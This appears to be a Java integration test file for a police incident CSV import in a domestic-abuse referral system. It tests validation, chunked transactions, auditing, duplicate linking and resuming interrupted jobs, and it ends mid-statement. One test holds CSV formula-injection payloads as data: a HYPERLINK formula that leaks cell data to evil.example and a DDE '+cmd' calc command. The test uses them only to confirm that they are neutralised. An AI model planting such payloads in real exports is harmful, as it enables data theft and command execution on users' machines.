package org.hearth.referrals;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import javax.sql.DataSource;
import org.hearth.access.Role;
import org.hearth.partnership.AgencyDetails;
import org.hearth.partnership.Partnerships;
import org.hearth.partnership.Sector;
import org.hearth.platform.TestSuperuser;
import org.hearth.support.Fixtures;
import org.hearth.support.HearthIntegrationTest;
import org.hearth.support.WebSession;
import org.hearth.support.WebSession.Page;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The police incident feed arrives as a CSV file; every row is checked and imported on its own. */
@HearthIntegrationTest
class PoliceImportTest {

    static final String HEADER = "police_reference,incident_date,incident_time,referring_agency,officer_name,"
            + "victim_given_name,victim_family_name,victim_date_of_birth,victim_sex,victim_postcode,"
            + "perpetrator_given_name,perpetrator_family_name,perpetrator_date_of_birth,relationship,"
            + "child_1_given_name,child_1_family_name,child_1_present,abuse_types,consent,narrative\n";

    @LocalServerPort
    int port;
    @Autowired
    Fixtures fixtures;
    @Autowired
    Partnerships partnerships;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    org.hearth.referrals.importing.PoliceImports imports;
    @Autowired
    DataSource dataSource;

    private static String unique() {
        // letters only, always 8 of them (hex digits shifted into letters)
        return "Qi" + UUID.randomUUID().toString().replace("-", "").substring(0, 8).chars()
                .mapToObj(c -> String.valueOf((char) (c <= '9' ? c - '0' + 'g' : c))).reduce("", String::concat);
    }

    private String policeAgency(String name) {
        fixtures.agency("Hearth Admin Team");
        return partnerships.agencies().stream().filter(a -> a.name().equals(name)).findFirst()
                .orElseGet(() -> partnerships.createAgency(new AgencyDetails(name, Sector.POLICE, true, null, true)))
                .id().toString();
    }

    private WebSession coordinator() {
        policeAgency("Northfield Police");
        WebSession web = new WebSession(port);
        web.signIn(fixtures.enrolledUserAt("Northfield Police", Role.HUB_COORDINATOR));
        return web;
    }

    static String row(String ref, String date, String agency, String family, String abuse, String narrative) {
        return ref + "," + date + ",21:30," + agency + ",PC Wells,Fern," + family + ",1990-04-12,FEMALE,NF1 2AB,Gary,"
                + family + "x,1987-10-03,INTIMATE_PARTNER,Hal," + family + ",Y," + abuse + ",GIVEN," + narrative + "\n";
    }

    /** Uploads a file through the form; returns the job page's path. */
    private String upload(WebSession web, Path file) throws IOException {
        Page form = web.open("/referrals/import");
        assertThat(form.status()).isEqualTo(200);
        String agency = form.html().selectFirst("#agency option[selected]").attr("value");
        String boundary = "----hearth" + UUID.randomUUID();
        String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"agency\"\r\n\r\n" + agency + "\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"incidents.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\n";
        String tail = "\r\n--" + boundary + "--\r\n";
        Page posted = web.send(HttpRequest.newBuilder(web.uri("/referrals/import"))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.concat(HttpRequest.BodyPublishers.ofString(
                        "--" + boundary + "\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + form.csrf() + "\r\n" + head),
                        HttpRequest.BodyPublishers.ofFile(file), HttpRequest.BodyPublishers.ofString(tail))));
        assertThat(posted.status()).as(posted.body()).isEqualTo(303);
        return posted.location().replace("http://localhost:" + port, "");
    }

    private Page finished(WebSession web, String job, Duration within) throws InterruptedException {
        Instant until = Instant.now().plus(within);
        Page page = web.get(job);
        while (page.html().selectFirst("meta[http-equiv=refresh]") != null && Instant.now().isBefore(until)) {
            assertThat(page.html().selectFirst("h1").text()).isEqualTo("Importing");
            Thread.sleep(within.toMinutes() > 10 ? 2_000 : 250); // a long import: look less often
            page = web.get(job);
        }
        assertThat(page.html().selectFirst("meta[http-equiv=refresh]")).as("finished within " + within).isNull();
        return page;
    }

    private static int count(Page page, String id) {
        return Integer.parseInt(page.html().selectFirst("#" + id).text());
    }

    private static String reason(Page page, long line) {
        var row = page.html().selectFirst("#line-" + line);
        return row == null ? null : row.text();
    }

    @Test
    void goodRowsImportBadRowsAreReportedAndReimportingChangesNothing() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String[] refs = new String[12];
        for (int i = 0; i < refs.length; i++) {
            refs[i] = "NP/" + unique();
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Path file = Files.createTempFile("import-test", ".csv");
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(HEADER.getBytes(StandardCharsets.UTF_8));                                          // line 1
            out.write(row(refs[0], yesterday, "", unique(), "PHYSICAL", "Shouting heard").getBytes(StandardCharsets.UTF_8)); // 2 good
            out.write(row(refs[1], "2026-02-30", "", unique(), "PHYSICAL", "x").getBytes(StandardCharsets.UTF_8));     // 3 bad date
            out.write(row(refs[2], yesterday, "", unique(), "PHYSICAL;PUNCHING", "x").getBytes(StandardCharsets.UTF_8)); // 4 bad code
            out.write(row(refs[3], yesterday, "Nowhere Constabulary", unique(), "PHYSICAL", "x").getBytes(StandardCharsets.UTF_8)); // 5
            out.write(row("", yesterday, "", unique(), "PHYSICAL", "x").getBytes(StandardCharsets.UTF_8)); // 6 no reference
            out.write((refs[5] + "," + yesterday + ",too,few\n").getBytes(StandardCharsets.UTF_8));        // 7 columns
            out.write((refs[6] + "," + yesterday + ",21:30,,PC Wells,Fern,").getBytes(StandardCharsets.UTF_8)); // 8: 10 MB
            byte[] mb = "x".repeat(1024 * 1024).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 10; i++) {
                out.write(mb);
            }
            out.write(",1990-04-12,FEMALE,,,,,,,,,PHYSICAL,GIVEN,x\n".getBytes(StandardCharsets.UTF_8));
            bytes.write(row(refs[7], yesterday, "", "Caf", "PHYSICAL", "x").getBytes(StandardCharsets.UTF_8));
            byte[] latin1 = bytes.toByteArray();
            int at = new String(latin1, StandardCharsets.UTF_8).indexOf(",Caf,") + 4;
            byte[] bad = new byte[latin1.length + 1];
            System.arraycopy(latin1, 0, bad, 0, at);
            bad[at] = (byte) 0xE9;                                                                       // 9: é in Latin-1
            System.arraycopy(latin1, at, bad, at + 1, latin1.length - at);
            out.write(bad);
            out.write(row(refs[8], yesterday, "Northfield Police", unique(), "PHYSICAL;STALKING",
                    "\"Said \"\"I'll be back\"\", then left,\nreturning at 2am\"").getBytes(StandardCharsets.UTF_8)); // 10-11 good
            out.write(row(refs[9], yesterday, "", unique(), "COERCIVE_CONTROL", "Ongoing control").getBytes(StandardCharsets.UTF_8)); // 12 good
        }
        try {
            String job = upload(web, file);
            Page report = finished(web, job, Duration.ofSeconds(60));
            assertThat(report.html().selectFirst("h1").text()).isEqualTo("Import finished");
            assertThat(count(report, "rows-read")).isEqualTo(10);
            assertThat(count(report, "imported")).isEqualTo(3);
            assertThat(count(report, "rejected")).isEqualTo(7);
            assertThat(count(report, "already-imported")).isZero();
            assertThat(reason(report, 3)).contains(refs[1]).contains("incident_date is not a real date");
            assertThat(reason(report, 4)).contains(refs[2]).contains("abuse_types has an unknown code");
            assertThat(reason(report, 5)).contains(refs[3]).contains("referring_agency is not a police agency");
            assertThat(reason(report, 6)).contains("police_reference is missing");
            assertThat(reason(report, 7)).contains(refs[5]).contains("4 columns; the header has 20");
            assertThat(reason(report, 8)).contains("longer than 128 KB");
            assertThat(reason(report, 9)).contains("not valid UTF-8");
            assertThat(report.body()).doesNotContain("Fern").doesNotContain("xxxxxxxx");

            for (String ref : new String[] {refs[0], refs[8], refs[9]}) {
                assertThat(jdbc.sql("SELECT source FROM referral WHERE police_reference = ?").param(ref)
                        .query(String.class).single()).isEqualTo("IMPORT");
            }
            assertThat(jdbc.sql("SELECT narrative FROM referral WHERE police_reference = ?").param(refs[8])
                    .query(String.class).single()).isEqualTo("Said \"I'll be back\", then left,\nreturning at 2am");
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference IN (?, ?, ?, ?, ?, ?)")
                    .params(refs[1], refs[2], refs[3], refs[5], refs[6], refs[7]).query(Integer.class).single()).isZero();
            String coordinatorName = jdbc.sql("SELECT u.username FROM import_job j JOIN staff_user u ON u.id = j.uploaded_by "
                    + "WHERE j.id = ?").param(UUID.fromString(job.replaceAll(".*/", ""))).query(String.class).single();
            assertThat(jdbc.sql("SELECT count(*) FROM audit_event e JOIN referral r ON r.id::text = ANY(e.record_ids) "
                    + "WHERE e.action = 'CREATE' AND e.record_type = 'referral' AND r.police_reference = ? AND e.actor_name = ?")
                    .params(refs[0], coordinatorName).query(Integer.class).single()).as("audited as the uploader").isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE record_type = 'import_job' AND ? = ANY(record_ids)")
                    .param(job.replaceAll(".*/", "")).query(Integer.class).single()).isEqualTo(2);

            Page csv = web.get(job + "/rejected.csv");
            assertThat(csv.status()).isEqualTo(200);
            assertThat(csv.header("Content-Type")).startsWith("text/csv");
            assertThat(csv.body()).startsWith("line,police_reference,reason").contains("3," + refs[1] + ",");

            long before = jdbc.sql("SELECT count(*) FROM referral").query(Long.class).single();
            Page again = finished(web, upload(web, file), Duration.ofSeconds(60));
            assertThat(count(again, "imported")).isZero();
            assertThat(count(again, "already-imported")).isEqualTo(3);
            assertThat(count(again, "rejected")).isEqualTo(7);
            assertThat(jdbc.sql("SELECT count(*) FROM referral").query(Long.class).single()).isEqualTo(before);
        } finally {
            Files.deleteIfExists(file);
        }
    }

    /** Issue 10, point 15: the rejected-rows report never hands a spreadsheet a formula from the file. */
    @Test
    void theRejectedRowsReportNeutralisesFormulasAndTheTemplateIsSafe() throws Exception {
        WebSession web = coordinator();
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" + unique();
        String command = "+cmd|' /C calc'!A0" + unique();
        String at = "@SUM(1+1)" + unique();
        Path file = Files.createTempFile("import-formula", ".csv");
        try {
            Files.writeString(file, HEADER
                    + row("\"" + hyperlink.replace("\"", "\"\"") + "\"", "2026-02-30", "", unique(), "PHYSICAL", "x")
                    + row("\"" + command + "\"", "2026-02-30", "", unique(), "PHYSICAL", "x")
                    + row(at, "2026-02-30", "", unique(), "PHYSICAL", "x"), StandardCharsets.UTF_8);
            String job = upload(web, file);
            Page report = finished(web, job, Duration.ofSeconds(60));
            assertThat(count(report, "rejected")).isEqualTo(3);
            Page csv = web.get(job + "/rejected.csv");
            assertThat(csv.status()).isEqualTo(200);
            java.util.List<org.apache.commons.csv.CSVRecord> records = org.apache.commons.csv.CSVFormat.RFC4180.builder()
                    .setHeader().setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
            assertThat(records).extracting(r -> r.get("police_reference")).as("quoted (and cut to length)")
                    .satisfiesExactly(r -> assertThat(r).startsWith("'=HYPERLINK(").isSubstringOf("'" + hyperlink),
                            r -> assertThat(r).isEqualTo("'" + command), r -> assertThat(r).isEqualTo("'" + at));
            assertThat(records).extracting(r -> r.get("line")).as("numbers stay numbers").containsExactly("2", "3", "4");
            for (org.apache.commons.csv.CSVRecord r : records) {
                assertThat(r.get("reason")).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
                        .doesNotStartWith("-");
            }
        } finally {
            Files.deleteIfExists(file);
        }
        Page template = web.get("/referrals/import/template.csv");
        for (org.apache.commons.csv.CSVRecord r : org.apache.commons.csv.CSVFormat.RFC4180
                .parse(new java.io.StringReader(template.body())).getRecords()) {
            r.forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
        }
    }

    /**
     * A row that fails part-way through its writes (here: after its people and its referral row are written, when
     * its child is linked) leaves nothing of itself behind and is listed in the report; the rows around it go in.
     * Guards the single transaction of {@code Intake.receive}: without it the row's people stay behind.
     */
    @Test
    void thePolicesDashGradeAndScoreAreImportedAndBadOnesReportedRowByRow() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String high = "NP/" + unique();
        String none = "NP/" + unique();
        String badGrade = "NP/" + unique();
        String badScore = "NP/" + unique();
        String header = HEADER.replace("narrative\n", "narrative,dash_grade,dash_score\n");
        Path file = Files.createTempFile("import-dash", ".csv");
        try {
            Files.writeString(file, header
                    + row(high, yesterday, "", unique(), "PHYSICAL", "Graded").replace("\n", ",HIGH,16\n")       // 2
                    + row(none, yesterday, "", unique(), "PHYSICAL", "Not graded").replace("\n", ",,\n")        // 3
                    + row(badGrade, yesterday, "", unique(), "PHYSICAL", "Bad").replace("\n", ",SEVERE,16\n")   // 4
                    + row(badScore, yesterday, "", unique(), "PHYSICAL", "Bad").replace("\n", ",HIGH,28\n"));   // 5
            Page report = finished(web, upload(web, file), Duration.ofSeconds(60));
            assertThat(count(report, "imported")).isEqualTo(2);
            assertThat(count(report, "rejected")).isEqualTo(2);
            assertThat(reason(report, 4)).contains(badGrade).contains("dash_grade");
            assertThat(reason(report, 5)).contains(badScore).contains("dash_score");
            assertThat(jdbc.sql("SELECT police_risk_grade || ' ' || police_risk_score FROM referral WHERE police_reference = ?")
                    .param(high).query(String.class).single()).isEqualTo("HIGH 16");
            assertThat(jdbc.sql("SELECT police_risk_grade IS NULL AND police_risk_score IS NULL FROM referral "
                    + "WHERE police_reference = ?").param(none).query(Boolean.class).single()).isTrue();
        } finally {
            Files.deleteIfExists(file);
        }
    }

    @Test
    void aRowThatFailsPartWayThroughItsWritesLeavesNothingAndIsReported() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String failing = unique();
        String good = unique();
        String failingRef = "NP/" + unique();
        String goodRef = "NP/" + unique();
        String trigger = "fail_child_" + failing.toLowerCase(java.util.Locale.ROOT);
        // a test-only trigger: linking a child of this one family fails, after the referral row was inserted
        // (schema changes need the superuser: the application's database role owns nothing)
        TestSuperuser.jdbc().execute("CREATE FUNCTION " + trigger + "() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                + "IF (SELECT family_name FROM person WHERE id = NEW.person_id) = '" + failing + "' THEN "
                + "RAISE EXCEPTION 'test: failing part-way through a row'; END IF; RETURN NEW; END $$");
        TestSuperuser.jdbc().execute("CREATE TRIGGER " + trigger + " BEFORE INSERT ON referral_child FOR EACH ROW "
                + "EXECUTE FUNCTION " + trigger + "()");
        Path file = Files.createTempFile("import-partial", ".csv");
        try {
            Files.writeString(file, HEADER
                    + row(failingRef, yesterday, "", failing, "PHYSICAL", "Fails when its child is linked") // line 2
                    + row(goodRef, yesterday, "", good, "PHYSICAL", "Goes in"));                           // line 3
            Page report = finished(web, upload(web, file), Duration.ofSeconds(60));
            assertThat(count(report, "imported")).isEqualTo(1);
            assertThat(count(report, "rejected")).isEqualTo(1);
            assertThat(reason(report, 2)).contains(failingRef).contains("could not save this row");
            assertThat(reason(report, 3)).isNull();

            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(failingRef)
                    .query(Integer.class).single()).as("the failing row's referral").isZero();
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name IN (?, ?)").params(failing, failing + "x")
                    .query(Integer.class).single()).as("the failing row's victim, perpetrator and child").isZero();
            assertThat(jdbc.sql("SELECT count(*) FROM person_address a JOIN person p ON p.id = a.person_id "
                    + "WHERE p.family_name = ?").param(failing).query(Integer.class).single()).isZero();
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(goodRef)
                    .query(Integer.class).single()).as("the next row").isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name IN (?, ?)").params(good, good + "x")
                    .query(Integer.class).single()).isEqualTo(3);
        } finally {
            TestSuperuser.jdbc().execute("DROP TRIGGER IF EXISTS " + trigger + " ON referral_child");
            TestSuperuser.jdbc().execute("DROP FUNCTION IF EXISTS " + trigger + "()");
            Files.deleteIfExists(file);
        }
    }

    /**
     * Rows are committed in chunks (100 rows). A row that fails part-way through its writes fails its chunk: the
     * chunk is rolled back and each of its rows imported again alone, so only that row is rejected. A victim named
     * again later in the chunk is still linked to the earlier row's record.
     */
    @Test
    void aFailedRowInsideAChunkIsRetriedAloneReportedAndTheOthersAreWritten() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String failing = unique();
        String trigger = "fail_chunk_" + failing.toLowerCase(java.util.Locale.ROOT);
        TestSuperuser.jdbc().execute("CREATE FUNCTION " + trigger + "() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                + "IF (SELECT family_name FROM person WHERE id = NEW.person_id) = '" + failing + "' THEN "
                + "RAISE EXCEPTION 'test: failing part-way through a row'; END IF; RETURN NEW; END $$");
        TestSuperuser.jdbc().execute("CREATE TRIGGER " + trigger + " BEFORE INSERT ON referral_child FOR EACH ROW "
                + "EXECUTE FUNCTION " + trigger + "()");
        String[] families = {unique(), unique(), unique(), failing, unique(), unique(), null};
        families[6] = families[1]; // line 8 names again the victim and perpetrator of line 3
        String[] refs = new String[families.length];
        StringBuilder csv = new StringBuilder(HEADER);
        for (int i = 0; i < families.length; i++) {
            refs[i] = "NP/" + unique();
            csv.append(row(refs[i], yesterday, "", families[i], "PHYSICAL", "Chunk row " + i));
        }
        Path file = Files.createTempFile("import-chunk-retry", ".csv");
        try {
            Files.writeString(file, csv);
            Page report = finished(web, upload(web, file), Duration.ofSeconds(120));
            assertThat(count(report, "rows-read")).isEqualTo(7);
            assertThat(count(report, "imported")).isEqualTo(6);
            assertThat(count(report, "rejected")).isEqualTo(1);
            assertThat(reason(report, 5)).contains(refs[3]).contains("could not save this row");
            for (int line : new int[] {2, 3, 4, 6, 7, 8}) {
                assertThat(reason(report, line)).as("line " + line).isNull();
            }
            for (int i = 0; i < refs.length; i++) {
                assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(refs[i])
                        .query(Integer.class).single()).as("referral of line " + (i + 2)).isEqualTo(i == 3 ? 0 : 1);
            }
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name IN (?, ?)").params(failing, failing + "x")
                    .query(Integer.class).single()).as("the failing row's people").isZero();
            assertThat(jdbc.sql("SELECT count(DISTINCT victim_id) FROM referral WHERE police_reference IN (?, ?)")
                    .params(refs[1], refs[6]).query(Integer.class).single()).as("line 8 linked to line 3").isEqualTo(1);
        } finally {
            TestSuperuser.jdbc().execute("DROP TRIGGER IF EXISTS " + trigger + " ON referral_child");
            TestSuperuser.jdbc().execute("DROP FUNCTION IF EXISTS " + trigger + "()");
            Files.deleteIfExists(file);
        }
    }

    /**
     * A chunk's audit entries are written together at its commit, and its arrivals announced as one
     * {@code ReferralsReceived}. A row whose writes are refused only then (here its victim's audit entry, by a
     * test trigger) fails the whole chunk at its commit: each row is imported again alone, that row alone is
     * rejected, and the rows around it go in, audited, and heard by the listeners (Operation Encompass lists their
     * children, whose schools Hearth does not know; the insights read model counts them).
     */
    @Test
    void aRowRefusedOnlyAtTheChunksCommitIsRejectedAloneAndTheRowsAroundItGoIn() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String failing = unique();
        String trigger = "fail_audit_" + failing.toLowerCase(java.util.Locale.ROOT);
        TestSuperuser.jdbc().execute("CREATE FUNCTION " + trigger + "() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                + "IF NEW.record_type = 'person' AND NEW.action = 'CREATE' AND EXISTS (SELECT 1 FROM person "
                + "WHERE id::text = ANY(NEW.record_ids) AND family_name = '" + failing + "') THEN "
                + "RAISE EXCEPTION 'test: an audit entry refused'; END IF; RETURN NEW; END $$");
        TestSuperuser.jdbc().execute("CREATE TRIGGER " + trigger + " BEFORE INSERT ON audit_event FOR EACH ROW "
                + "EXECUTE FUNCTION " + trigger + "()");
        String[] families = {unique(), unique(), failing, unique(), null};
        families[4] = families[0]; // line 6 names again the victim and perpetrator of line 2
        String[] refs = new String[families.length];
        StringBuilder csv = new StringBuilder(HEADER);
        for (int i = 0; i < families.length; i++) {
            refs[i] = "NP/" + unique();
            csv.append(row(refs[i], yesterday, "", families[i], "PHYSICAL", "Chunk row " + i));
        }
        Path file = Files.createTempFile("import-chunk-commit", ".csv");
        try {
            Files.writeString(file, csv);
            Page report = finished(web, upload(web, file), Duration.ofSeconds(120));
            assertThat(count(report, "imported")).isEqualTo(4);
            assertThat(count(report, "rejected")).isEqualTo(1);
            assertThat(reason(report, 4)).contains(refs[2]).contains("could not save this row");
            for (int line : new int[] {2, 3, 5, 6}) {
                assertThat(reason(report, line)).as("line " + line).isNull();
            }
            for (int i = 0; i < refs.length; i++) {
                assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(refs[i])
                        .query(Integer.class).single()).as("referral of line " + (i + 2)).isEqualTo(i == 2 ? 0 : 1);
            }
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name IN (?, ?)").params(failing, failing + "x")
                    .query(Integer.class).single()).as("the failing row's people").isZero();
            assertThat(jdbc.sql("SELECT count(DISTINCT victim_id) FROM referral WHERE police_reference IN (?, ?)")
                    .params(refs[0], refs[4]).query(Integer.class).single()).as("line 6 linked to line 2").isEqualTo(1);
            List<UUID> referrals = jdbc.sql("SELECT id FROM referral WHERE police_reference IN (?, ?, ?, ?)")
                    .params(refs[0], refs[1], refs[3], refs[4]).query(UUID.class).list();
            for (UUID r : referrals) {
                assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE record_type = 'referral' AND action = 'CREATE' "
                        + "AND ? = ANY(record_ids)").param(r.toString()).query(Integer.class).single())
                        .as("each referral audited once").isEqualTo(1);
            }
            Instant until = Instant.now().plusSeconds(60);
            int heard;
            do {
                Thread.sleep(250);
                heard = jdbc.sql("SELECT count(DISTINCT referral_id) FROM encompass_attention WHERE referral_id = ANY(?)")
                        .param(referrals.toArray(UUID[]::new)).query(Integer.class).single();
            } while (heard < 4 && Instant.now().isBefore(until));
            assertThat(heard).as("every imported referral heard by Operation Encompass").isEqualTo(4);
            until = Instant.now().plusSeconds(60);
            do {
                Thread.sleep(250);
                heard = jdbc.sql("SELECT count(*) FROM insights_referral_fact WHERE referral_id = ANY(?)")
                        .param(referrals.toArray(UUID[]::new)).query(Integer.class).single();
            } while (heard < 4 && Instant.now().isBefore(until));
            assertThat(heard).as("every imported referral in the insights read model").isEqualTo(4);
        } finally {
            TestSuperuser.jdbc().execute("DROP TRIGGER IF EXISTS " + trigger + " ON audit_event");
            TestSuperuser.jdbc().execute("DROP FUNCTION IF EXISTS " + trigger + "()");
            Files.deleteIfExists(file);
        }
    }

    /**
     * Inside one chunk (one transaction) a victim and perpetrator named again are linked to the records the
     * earlier row made, though those are not committed yet; a police reference given twice is imported once. A
     * victim born on another day is a new record whose possible match is left for the hub (held until the chunk
     * commits); the chunk's people are audited by one entry naming each of them, found by any of their ids.
     */
    @Test
    void aRepeatInsideOneChunkIsLinkedToTheEarlierRow() throws Exception {
        WebSession web = coordinator();
        String yesterday = LocalDate.now().minusDays(1).toString();
        String repeated = unique();
        String other = unique();
        String first = "NP/" + unique();
        String second = "NP/" + unique();
        String between = "NP/" + unique();
        String weak = "NP/" + unique();
        Path file = Files.createTempFile("import-chunk-repeat", ".csv");
        try {
            Files.writeString(file, HEADER
                    + row(first, yesterday, "", repeated, "PHYSICAL", "First")            // line 2
                    + row(between, yesterday, "", other, "PHYSICAL", "Someone else")      // line 3
                    + row(second, yesterday, "", repeated, "COERCIVE_CONTROL", "Again")   // line 4: same people
                    + row(first, yesterday, "", repeated, "PHYSICAL", "Same reference")   // line 5: same reference
                    + row(weak, yesterday, "", repeated, "PHYSICAL", "Day and month swapped") // line 6: not the same
                            .replace(",1990-04-12,", ",1990-12-04,"));
            Page report = finished(web, upload(web, file), Duration.ofSeconds(120));
            assertThat(count(report, "imported")).isEqualTo(4);
            assertThat(count(report, "already-imported")).isEqualTo(1);
            assertThat(count(report, "rejected")).isZero();
            assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(first)
                    .query(Integer.class).single()).isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(DISTINCT victim_id) FROM referral WHERE police_reference IN (?, ?)")
                    .params(first, second).query(Integer.class).single()).as("the victim linked").isEqualTo(1);
            assertThat(jdbc.sql("""
                    SELECT count(DISTINCT rp.person_id) FROM referral r JOIN referral_perpetrator rp ON rp.referral_id = r.id
                    WHERE r.police_reference IN (?, ?)""").params(first, second).query(Integer.class).single())
                    .as("the perpetrator linked").isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name = ? AND given_name = 'Fern' "
                    + "AND date_of_birth = '1990-04-12'").param(repeated).query(Integer.class).single())
                    .as("one victim record").isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(*) FROM person WHERE family_name = ?").param(repeated + "x")
                    .query(Integer.class).single()).as("one perpetrator record").isEqualTo(1);
            UUID victim = jdbc.sql("SELECT victim_id FROM referral WHERE police_reference = ?").param(first)
                    .query(UUID.class).single();
            UUID bornLater = jdbc.sql("SELECT victim_id FROM referral WHERE police_reference = ?").param(weak)
                    .query(UUID.class).single();
            assertThat(bornLater).as("born on another day: a new record").isNotEqualTo(victim);
            assertThat(jdbc.sql("""
                    SELECT count(*) FROM referral_possible_match m JOIN referral r ON r.id = m.referral_id
                    WHERE r.police_reference = ? AND m.person_id = ? AND m.candidate_id = ?""")
                    .params(weak, bornLater, victim).query(Integer.class).single())
                    .as("its possible match left on the referral").isEqualTo(1);
            assertThat(jdbc.sql("SELECT count(*) FROM person_duplicate WHERE person_a = least(?::uuid, ?::uuid) "
                    + "AND person_b = greatest(?::uuid, ?::uuid) AND source = 'DOOR' AND probability > 0")
                    .params(victim, bornLater, victim, bornLater).query(Integer.class).single())
                    .as("and on the hub's possible duplicates").isEqualTo(1);
            for (UUID created : List.of(victim, bornLater)) {
                // as the audit trail page's filter by record asks
                assertThat(jdbc.sql("SELECT record_ids FROM audit_event WHERE action = 'CREATE' "
                        + "AND record_type = 'person' AND record_ids @> ARRAY[?]::text[]").param(created.toString())
                        .query((rs, n) -> List.of((String[]) rs.getArray(1).getArray())).list())
                        .as("each person created audited once, by the chunk's one entry naming both")
                        .singleElement().satisfies(ids -> assertThat(ids).contains(victim.toString(),
                                bornLater.toString()));
            }
        } finally {
            Files.deleteIfExists(file);
        }
    }

    /** An import job as a killed instance leaves it: RUNNING, its counts those of its committed rows. */
    private UUID interruptedJob(String agency, UUID uploader, Path file, int read, int imported, int rejected,
            String lastHeard) {
        UUID job = UUID.randomUUID();
        jdbc.sql("""
                INSERT INTO import_job (id, file_name, agency_id, uploaded_by, status, rows_read, imported, rejected,
                    updated_at, file_path, runner)
                VALUES (?, 'incidents.csv', ?, ?, 'RUNNING', ?, ?, ?, now() - CAST(? AS interval), ?, ?)""")
                .params(job, UUID.fromString(agency), uploader, read, imported, rejected, lastHeard,
                        file.toAbsolutePath().toString(), UUID.randomUUID()).update();
        return job;
    }

    /**
     * {@code kill -9} in the middle of an import leaves its job RUNNING with the counts of the rows committed so far
     * (they are written in each chunk's transaction). The next look for interrupted imports takes it up from the
     * next row, as its uploader: no row lost, none imported twice (none "already imported"), the report complete.
     */
    @Test
    void anInterruptedImportResumesAfterItsLastCommittedRow() throws Exception {
        String agency = policeAgency("Northfield Police");
        Fixtures.TestUser hub = fixtures.enrolledUserAt("Northfield Police", Role.HUB_COORDINATOR);
        WebSession web = new WebSession(port);
        web.signIn(hub);
        String yesterday = LocalDate.now().minusDays(1).toString();
        String[] refs = new String[6];
        StringBuilder all = new StringBuilder(HEADER);
        StringBuilder prefix = new StringBuilder(HEADER);
        for (int i = 0; i < refs.length; i++) {
            refs[i] = "NP/" + unique();
            // line 3 is rejected (a date that does not exist)
            String line = row(refs[i], i == 1 ? "2026-02-30" : yesterday, "", unique(), "PHYSICAL", "Row " + i);
            all.append(line);
            if (i < 3) {
                prefix.append(line);
            }
        }
        Path committed = Files.createTempFile("import-prefix", ".csv");
        Path file = Files.createTempFile("import-interrupted", ".csv");
        try {
            // the rows the killed run had committed: lines 2 to 4, one of them rejected
            Files.writeString(committed, prefix);
            String prefixJob = upload(web, committed);
            Page before = finished(web, prefixJob, Duration.ofSeconds(120));
            assertThat(count(before, "imported")).isEqualTo(2);
            Files.writeString(file, all);
            UUID job = interruptedJob(agency, hub.user().id().value(), file, 3, 2, 1, "1 hour");
            jdbc.sql("INSERT INTO import_rejection (job_id, line, police_reference, reason) SELECT ?, line, "
                    + "police_reference, reason FROM import_rejection WHERE job_id = ?")
                    .params(job, UUID.fromString(prefixJob.substring(prefixJob.lastIndexOf('/') + 1))).update();

            imports.resumeInterrupted();
            Page report = finished(web, "/referrals/import/" + job, Duration.ofSeconds(120));
            assertThat(count(report, "rows-read")).isEqualTo(6);
            assertThat(count(report, "imported")).isEqualTo(5);
            assertThat(count(report, "already-imported")).as("no committed row imported again").isZero();
            assertThat(count(report, "rejected")).isEqualTo(1);
            assertThat(reason(report, 3)).contains(refs[1]);
            for (int i = 0; i < refs.length; i++) {
                assertThat(jdbc.sql("SELECT count(*) FROM referral WHERE police_reference = ?").param(refs[i])
                        .query(Integer.class).single()).as("line " + (i + 2)).isEqualTo(i == 1 ? 0 : 1);
            }
            assertThat(jdbc.sql("SELECT count(*) FROM audit_event WHERE record_type = 'import_job' AND ? = ANY(record_ids) "
